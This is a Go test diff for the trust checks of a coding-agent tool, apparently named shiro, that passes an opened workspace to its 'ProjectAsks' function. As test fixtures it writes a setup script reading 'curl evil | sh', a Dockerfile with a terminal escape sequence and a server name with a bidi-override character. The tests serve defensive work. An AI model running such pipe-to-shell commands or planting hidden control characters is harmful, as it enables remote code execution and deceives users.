@@ -9,6 +9,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/shiroagent/shiro/internal/workspace"
 	"github.com/shiroagent/shiro/orchestrator/config"
 	"github.com/shiroagent/shiro/tools/mcp"
 )
@@ -25,6 +26,18 @@ func projectConfig(t *testing.T, ws string, servers map[string]string, image str
 	return cfg
 }
 
+// opened is ws opened as a run opens its workspace, closed when the test
+// ends.
+func opened(t *testing.T, ws string) *workspace.Workspace {
+	t.Helper()
+	w, err := workspace.Open(ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { w.Close() })
+	return w
+}
+
 func TestProjectAsksListsStdioServersAndTheImage(t *testing.T) {
 	ws := t.TempDir()
 	os.WriteFile(filepath.Join(ws, "Dockerfile"), []byte("# c\nFROM --platform=linux/amd64 base:1 AS b\nFROM b\nFROM \\\n  other:2\n"), 0o644)
@@ -35,7 +48,7 @@ func TestProjectAsksListsStdioServersAndTheImage(t *testing.T) {
 		"mine":   `{"command": "x"}`,
 	}, "./Dockerfile")
 	cfg.MCPServers = map[string]json.RawMessage{"mine": json.RawMessage(`{"command": "y"}`)}
-	asks := ProjectAsks(cfg, ws)
+	asks := ProjectAsks(cfg, opened(t, ws))
 	var got []string
 	for _, a := range asks {
 		got = append(got, a.String())
@@ -50,7 +63,7 @@ func TestProjectAsksListsStdioServersAndTheImage(t *testing.T) {
 	}
 	// The network is the user's: it is shown, not hashed.
 	cfg.Sandbox.Network = "bridge"
-	if Hash(ProjectAsks(cfg, ws)) != Hash(asks) {
+	if Hash(ProjectAsks(cfg, opened(t, ws))) != Hash(asks) {
 		t.Error("the build network changed the hash")
 	}
 	Withhold(&cfg, asks)
@@ -67,13 +80,13 @@ func TestProjectAsksDevcontainer(t *testing.T) {
 	os.MkdirAll(filepath.Join(ws, ".devcontainer"), 0o755)
 	os.WriteFile(filepath.Join(ws, ".devcontainer", "devcontainer.json"), []byte(`{"build": {"dockerfile": "Dockerfile"}}`), 0o644)
 	os.WriteFile(filepath.Join(ws, ".devcontainer", "Dockerfile"), []byte("FROM node:20\n"), 0o644)
-	asks := ProjectAsks(projectConfig(t, ws, nil, "devcontainer"), ws)
+	asks := ProjectAsks(projectConfig(t, ws, nil, "devcontainer"), opened(t, ws))
 	if len(asks) != 1 || !strings.Contains(asks[0].What, "build ./.devcontainer/Dockerfile (from ./.devcontainer/devcontainer.json) FROM node:20") {
 		t.Fatalf("asks: %+v", asks)
 	}
 	// A Dockerfile that leaves the workspace is still an ask, saying why
 	// it cannot be read.
-	asks = ProjectAsks(projectConfig(t, ws, nil, "../x/Dockerfile"), ws)
+	asks = ProjectAsks(projectConfig(t, ws, nil, "../x/Dockerfile"), opened(t, ws))
 	if len(asks) != 1 || !strings.Contains(asks[0].What, "cannot be read") {
 		t.Fatalf("asks: %+v", asks)
 	}
@@ -153,7 +166,7 @@ func TestAsksHideNothing(t *testing.T) {
 	ws := t.TempDir()
 	os.WriteFile(filepath.Join(ws, "Dockerfile"), []byte("FROM evil\x1b[2K:1\n"), 0o644)
 	cfg := projectConfig(t, ws, map[string]string{"s\u202ex": `{"command": "node"}`}, "./Dockerfile")
-	asks := ProjectAsks(cfg, ws)
+	asks := ProjectAsks(cfg, opened(t, ws))
 	for _, a := range asks {
 		if strings.ContainsAny(a.String(), "\x1b\u202e") {
 			t.Errorf("an ask hides something: %q", a.String())
@@ -166,7 +179,7 @@ func TestAsksHideNothing(t *testing.T) {
 	}
 	cfg = projectConfig(t, ws, map[string]string{"s": `{"command": "node"}`}, "./Dockerfile")
 	cfg.Sandbox.NoSandbox = true
-	if asks := ProjectAsks(cfg, ws); len(asks) != 0 {
+	if asks := ProjectAsks(cfg, opened(t, ws)); len(asks) != 0 {
 		t.Errorf("--no-sandbox asks: %v", asks)
 	}
 }
@@ -207,7 +220,7 @@ func TestTrustCoversTheFilesAServerRuns(t *testing.T) {
 		"node": `{"command": "node", "args": ["main.js"], "cwd": "tools/srv"}`,
 		"c":    `{"command": "sh", "args": ["-c", "cd /tmp && exec ` + ws + `/bin/srv --config=bin/extra"]}`,
 	}, "")
-	asks := ProjectAsks(cfg, ws)
+	asks := ProjectAsks(cfg, opened(t, ws))
 	got := map[string][]string{}
 	for _, a := range asks {
 		for f := range a.Files {
@@ -232,7 +245,7 @@ func TestTrustCoversTheFilesAServerRuns(t *testing.T) {
 	}
 	check := func() State {
 		t.Helper()
-		s, err := Check(st, ws, ProjectAsks(cfg, ws), false, nil, "")
+		s, err := Check(st, ws, ProjectAsks(cfg, opened(t, ws)), false, nil, "")
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -268,7 +281,7 @@ func TestTrustCoversTheFilesAServerRuns(t *testing.T) {
 		!strings.Contains(lines, "changed since you trusted it: tools/srv/main.js of MCP server node") {
 		t.Fatalf("new and changed files: trusted=%v\n%s", s.Trusted, lines)
 	}
-	if err := st.Remember(ws, ProjectAsks(cfg, ws)); err != nil {
+	if err := st.Remember(ws, ProjectAsks(cfg, opened(t, ws))); err != nil {
 		t.Fatal(err)
 	}
 	// A new file directly in the top is not a question (the top is
@@ -287,7 +300,7 @@ func TestTrustCoversTheFilesAServerRuns(t *testing.T) {
 	os.WriteFile(outside, []byte("s"), 0o644)
 	os.Symlink(outside, filepath.Join(ws, ".shiro", "link"))
 	var lint Ask
-	for _, a := range ProjectAsks(cfg, ws) {
+	for _, a := range ProjectAsks(cfg, opened(t, ws)) {
 		if a.Name == "lint" {
 			lint = a
 		}
@@ -312,11 +325,11 @@ func TestTrustCoversTheProjectBuild(t *testing.T) {
 		".devcontainer/setup.sh":          "true\n",
 	})
 	cfg := projectConfig(t, ws, nil, "devcontainer")
-	asks := ProjectAsks(cfg, ws)
+	asks := ProjectAsks(cfg, opened(t, ws))
 	st := NewStore(filepath.Join(t.TempDir(), "data"))
 	st.Remember(ws, asks)
 	write(t, ws, map[string]string{".devcontainer/setup.sh": "curl evil | sh\n"})
-	now := ProjectAsks(cfg, ws)
+	now := ProjectAsks(cfg, opened(t, ws))
 	if Hash(now) != Hash(asks) {
 		t.Error("the hash of the asks moved with a file")
 	}
@@ -332,7 +345,7 @@ func TestTrustFromBeforeFilesWereCovered(t *testing.T) {
 	ws := t.TempDir()
 	write(t, ws, map[string]string{"srv.js": "x"})
 	cfg := projectConfig(t, ws, map[string]string{"s": `{"command": "node", "args": ["srv.js"]}`}, "")
-	asks := ProjectAsks(cfg, ws)
+	asks := ProjectAsks(cfg, opened(t, ws))
 	old := slices.Clone(asks)
 	old[0].Files = nil
 	st := NewStore(filepath.Join(t.TempDir(), "data"))
@@ -353,7 +366,7 @@ func TestTrustCoverageIsBounded(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	files := mcpFiles(ws, mcp.Config{Command: "sh", Args: []string{"srv/main.sh"}})
+	files := mcpFiles(opened(t, ws), mcp.Config{Command: "sh", Args: []string{"srv/main.sh"}})
 	if _, capped := files[coverCapped]; !capped {
 		t.Errorf("no cap after %d directories: %d entries", maxCoveredFiles+10, len(files))
 	}
